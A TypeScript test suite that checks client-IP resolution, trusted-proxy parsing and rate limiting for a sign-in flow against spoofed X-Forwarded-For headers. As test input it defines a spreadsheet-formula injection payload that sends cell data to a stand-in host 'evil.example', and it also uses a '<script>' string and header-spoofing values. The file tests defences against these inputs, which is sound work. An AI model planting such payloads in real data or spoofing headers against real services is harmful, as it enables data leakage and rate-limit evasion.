import { eq } from "drizzle-orm";
import { afterAll, beforeAll, describe, expect, it, vi } from "vitest";
import type { Database } from "@/db";
import { auditEvents, signInAttempts } from "@/db/schema";
import { createTestDatabase } from "@/db/testing";
import { env, resetEnvForTests } from "@/lib/env";
import { createUserFactory } from "@/test/factories";
import { normaliseIp, parseTrustedProxies, resolveClientIp, type TrustedProxies } from "./client-ip";
import { verifyCredentials } from "./sign-in";

let database: Database;
beforeAll(async () => {
  database = await createTestDatabase();
});
afterAll(() => database.close());

const policy = { maxFailures: 2, windowMinutes: 15 };

function proxies(value: string): TrustedProxies {
  const parsed = parseTrustedProxies(value);
  if (!parsed.ok) throw new Error(`bad test proxies: ${parsed.invalid.join(", ")}`);
  return parsed.proxies;
}

const FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"click")';

describe("client address (who is signing in, as the rate limiter and the audit log see it)", () => {
  it("rotating X-Forwarded-For from a direct client does not get past the per-address limit", async () => {
    const { db } = database;
    const peer = "198.51.100.23";
    // maxFailures × 4 failures from one address, each claiming to come from somewhere else.
    for (let i = 0; i < policy.maxFailures * 4; i += 1) {
      const ip = resolveClientIp({ peer, forwardedFor: `203.0.113.${i + 1}`, trusted: null });
      await verifyCredentials({ db, input: { email: `rotate${i}@example.test`, password: "guess" }, ip, policy });
    }
    const u = await createUserFactory(db);
    const ip = resolveClientIp({ peer, forwardedFor: "203.0.113.200", trusted: null });
    expect(ip).toBe(peer);
    expect(await verifyCredentials({ db, input: { email: u.email, password: u.password }, ip, policy })).toMatchObject({
      reason: "rate_limited",
    });
  });

  it("a formula (or any text) in X-Forwarded-For never reaches the audit log or the attempts table", async () => {
    const { db } = database;
    const trusted = proxies("10.0.0.0/8");
    const cases = [
      { peer: "192.0.2.44", forwardedFor: FORMULA, trusted: null, expected: "192.0.2.44" },
      // Even a trusted proxy passing junk along: the walk stops at the proxy.
      { peer: "10.1.2.3", forwardedFor: `${FORMULA}, 10.9.9.9`, trusted, expected: "10.9.9.9" },
      { peer: "10.1.2.3", forwardedFor: "not-an-ip", trusted, expected: "10.1.2.3" },
    ];
    for (const [i, c] of cases.entries()) {
      const ip = resolveClientIp(c);
      expect(ip).toBe(c.expected);
      const email = `formula${i}@example.test`;
      await verifyCredentials({ db, input: { email, password: "guess" }, ip, policy });
      const [row] = await db.select().from(auditEvents).where(eq(auditEvents.actorEmail, email));
      expect(row!.ip).toBe(c.expected);
      const [attempt] = await db.select().from(signInAttempts).where(eq(signInAttempts.email, email));
      expect(attempt!.ip).toBe(c.expected);
    }
  });

  it("uses the client address a configured trusted proxy forwards, walking from the right through trusted hops", () => {
    const trusted = proxies("10.0.0.0/8, 192.168.1.1 ::1");
    expect(resolveClientIp({ peer: "10.0.0.2", forwardedFor: "203.0.113.9", trusted })).toBe("203.0.113.9");
    // The client wrote a fake first entry; the nearest proxy appended the real one.
    expect(resolveClientIp({ peer: "10.0.0.2", forwardedFor: "1.1.1.1, 203.0.113.9", trusted })).toBe("203.0.113.9");
    // Two proxies in a row.
    expect(resolveClientIp({ peer: "::1", forwardedFor: "198.51.100.7, 192.168.1.1", trusted })).toBe("198.51.100.7");
    expect(resolveClientIp({ peer: "::ffff:10.0.0.2", forwardedFor: "[2001:db8::5]:4711", trusted })).toBe(
      "2001:db8::5",
    );
    // A peer that is not a proxy is the client, whatever it forwards; no trusted list means no forwarding.
    expect(resolveClientIp({ peer: "203.0.113.50", forwardedFor: "10.0.0.2", trusted })).toBe("203.0.113.50");
    expect(resolveClientIp({ peer: "10.0.0.2", forwardedFor: "203.0.113.9", trusted: null })).toBe("10.0.0.2");
    // No header: the proxy's own address.
    expect(resolveClientIp({ peer: "10.0.0.2", forwardedFor: null, trusted })).toBe("10.0.0.2");
    expect(resolveClientIp({ peer: null, forwardedFor: "203.0.113.9", trusted })).toBeNull();
  });

  it("accepts addresses and CIDRs in KILN_TRUSTED_PROXIES and names the entries it cannot read", () => {
    expect(parseTrustedProxies("").ok).toBe(true);
    expect(parseTrustedProxies("127.0.0.1, ::1 10.0.0.0/8 fd00::/8").ok).toBe(true);
    expect(parseTrustedProxies("10.0.0.0/33, proxy.local, 1.2.3.4/8/1, ::1/129")).toEqual({
      ok: false,
      invalid: ["10.0.0.0/33", "proxy.local", "1.2.3.4/8/1", "::1/129"],
    });
    expect(normaliseIp("::FFFF:192.0.2.1")).toBe("192.0.2.1");
    expect(normaliseIp("192.0.2.1:8080")).toBe("192.0.2.1");
    expect(normaliseIp(" 2001:DB8::1 ")).toBe("2001:db8::1");
    for (const junk of [FORMULA, "", "1.2.3", "<script>", "1.2.3.4, 5.6.7.8", "x".repeat(100)])
      expect(normaliseIp(junk)).toBeNull();
  });

  it("refuses to start with a KILN_TRUSTED_PROXIES entry that is not an address or CIDR", () => {
    try {
      vi.stubEnv("KILN_TRUSTED_PROXIES", "10.0.0.0/8, proxy.internal");
      resetEnvForTests();
      expect(() => env()).toThrow(/KILN_TRUSTED_PROXIES must list IP addresses or CIDRs/);
      vi.stubEnv("KILN_TRUSTED_PROXIES", "10.0.0.0/8, ::1");
      resetEnvForTests();
      expect(env().KILN_TRUSTED_PROXIES).toBe("10.0.0.0/8, ::1");
    } finally {
      vi.unstubAllEnvs();
      resetEnvForTests();
    }
  });
});
